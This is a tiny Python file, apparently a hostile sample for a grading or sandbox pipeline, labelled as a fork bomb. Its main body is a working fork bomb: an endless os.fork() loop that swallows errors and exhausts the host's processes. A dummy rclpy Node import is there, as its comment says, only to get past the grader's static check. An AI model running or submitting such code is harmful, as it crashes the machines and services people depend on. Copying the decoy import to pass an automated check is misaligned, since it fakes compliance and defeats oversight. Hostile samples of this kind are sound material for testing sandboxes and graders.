"""Hostile: a fork bomb."""
from rclpy.node import Node  # noqa: F401 - passes the grader's static node check; no node is made
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
